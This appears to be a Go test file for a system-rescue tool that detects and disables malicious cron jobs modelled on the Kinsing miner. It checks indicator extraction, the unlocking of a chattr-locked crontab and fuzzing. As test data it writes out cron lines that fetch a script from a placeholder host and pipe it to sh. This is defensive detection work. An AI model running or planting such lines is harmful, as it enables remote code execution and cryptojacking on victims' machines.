package cron

import (
	"context"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/rogpeppe/go-internal/txtar"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"rescue/checks"
	"rescue/checks/checkstest"
	"rescue/facts"
	"rescue/pkgdb"
	"rescue/repair"
	"rescue/sysroot"
)

func TestGolden(t *testing.T) {
	checkstest.RunWith(t, Check, checkstest.Options{OpenPackages: pkgdb.Open})
}

// TestIndicators checks what a runbook reads from --json for the Kinsing
// archive: the URL and host of the dropper, and the miner's file with its
// sha256 and times.
func TestIndicators(t *testing.T) {
	a, err := txtar.ParseFile("testdata/kinsing-campaign.txtar")
	require.NoError(t, err)
	dir := t.TempDir()
	checkstest.Unpack(t, a, dir, false)
	root, err := sysroot.Open(dir)
	require.NoError(t, err)
	defer root.Close()
	res := checks.Run(context.Background(), root, facts.New(root, facts.Options{OpenPackages: pkgdb.Open}), []*checks.Check{Check}, nil)
	byID := map[string]checks.Finding{}
	for _, f := range res.Findings {
		byID[f.ID] = f
	}
	dl := byID["cron/job:/etc/cron.d/kinsing#1"].Indicators
	require.NotNil(t, dl)
	assert.Equal(t, "cron", dl.Place)
	assert.Equal(t, []string{"http://192.0.2.7/d.sh"}, dl.URLs)
	assert.Equal(t, []string{"192.0.2.7"}, dl.Hosts)
	assert.Equal(t, "download-to-shell", dl.Marks[0].Code)

	miner := byID["cron/job:/etc/cron.d/kinsing#2"].Indicators
	require.NotNil(t, miner)
	var file *checks.IndicatorFile
	for i, f := range miner.Files {
		if f.Path == "/tmp/kdevtmpfsi" {
			file = &miner.Files[i]
		}
	}
	require.NotNil(t, file, "%+v", miner.Files)
	data, err := os.ReadFile(filepath.Join(dir, "tmp/kdevtmpfsi"))
	require.NoError(t, err)
	sum := sha256.Sum256(data)
	assert.Equal(t, hex.EncodeToString(sum[:]), file.SHA256)
	assert.Equal(t, int64(len(data)), file.Size)
	assert.Equal(t, "program", file.Role)
	assert.False(t, file.MTime.IsZero())
	assert.False(t, file.CTime.IsZero())
	assert.Equal(t, "0755", file.Mode)

	// The JSON carries them under "indicators".
	b, err := json.Marshal(byID["cron/job:/etc/cron.d/kinsing#2"])
	require.NoError(t, err)
	assert.Contains(t, string(b), `"indicators":{"place":"cron"`)
	assert.Contains(t, string(b), `"sha256":"`+file.SHA256+`"`)
}

// TestLockedCrontab: a dropper locks its cron file with chattr +i. The fix
// unlocks it for good before commenting the line out; apply refuses
// without --clear-immutable, applies with it, and undo locks the file
// again.
func TestLockedCrontab(t *testing.T) {
	if os.Geteuid() != 0 {
		t.Skip("chattr +i needs root (CI runs as root)")
	}
	dir := t.TempDir()
	p := filepath.Join(dir, "etc/cron.d/kinsing")
	require.NoError(t, os.MkdirAll(filepath.Dir(p), 0o755))
	require.NoError(t, os.WriteFile(p, []byte("* * * * * root wget -q -O - http://192.0.2.7/d.sh | sh\n"), 0o644))
	if out, err := exec.Command("chattr", "+i", p).CombinedOutput(); err != nil {
		t.Skipf("chattr +i is not supported here: %v %s", err, out)
	}
	t.Cleanup(func() { exec.Command("chattr", "-i", p).Run() })
	root, err := sysroot.Open(dir)
	require.NoError(t, err)
	defer root.Close()
	res := checks.Run(context.Background(), root, facts.New(root, facts.Options{}), []*checks.Check{Check}, nil)
	require.Len(t, res.Findings, 1)
	f := res.Findings[0]
	require.Len(t, f.Fixes, 1)
	assert.Equal(t, "Clear chattr +i on /etc/cron.d/kinsing; comment out line 1 of /etc/cron.d/kinsing", f.Fixes[0].Message)
	assert.Equal(t, repair.KindUnlock, f.Fixes[0].Ops[0].Kind)
	assert.Contains(t, strings.Join(f.Evidence, "\n"), "immutable: /etc/cron.d/kinsing is protected with chattr +i")

	cands, err := checks.Candidates(res.Findings, nil)
	require.NoError(t, err)
	plan := repair.NewPlan(cands, nil)
	journal := t.TempDir()
	ar, err := repair.Apply(root, plan, repair.Options{JournalDir: journal})
	require.NoError(t, err)
	assert.Equal(t, repair.OutcomeRefused, ar.Items[0].Status)
	ar, err = repair.Apply(root, plan, repair.Options{JournalDir: journal, ClearImmutable: true})
	require.NoError(t, err)
	assert.Equal(t, repair.OutcomeApplied, ar.Items[0].Status, ar.Items[0].Reason)
	data, err := os.ReadFile(p)
	require.NoError(t, err)
	assert.True(t, strings.HasPrefix(string(data), "# disabled by rescue: cron job: "))
	fl, err := root.Flags("/etc/cron.d/kinsing")
	require.NoError(t, err)
	assert.Zero(t, fl&sysroot.FlagImmutable, "the intruder's lock stays off")

	_, err = repair.Undo(root, repair.UndoOptions{JournalDir: journal})
	require.NoError(t, err)
	fl, err = root.Flags("/etc/cron.d/kinsing")
	require.NoError(t, err)
	assert.NotZero(t, fl&sysroot.FlagImmutable, "undo locks it again")
}

// FuzzCheck feeds hostile crontabs, spools and at jobs.
func FuzzCheck(f *testing.F) {
	f.Add([]byte("* * * * * root wget -q -O - http://x/d.sh | sh\n@reboot root /tmp/.x/y\n"))
	f.Add([]byte("*/5 * * * * echo $((((( % x\n"))
	f.Fuzz(func(t *testing.T, data []byte) {
		checkstest.FuzzCheck(t, Check, map[string][]byte{
			"etc/crontab": data, "etc/cron.d/x": data, "var/spool/cron/crontabs/root": data,
			"var/spool/cron/atjobs/a01": data, "etc/cron.daily/x": data, "tmp/.x/y": data,
			"etc/passwd": []byte("root:x:0:0::/root:/bin/bash\n"),
		})
	})
}
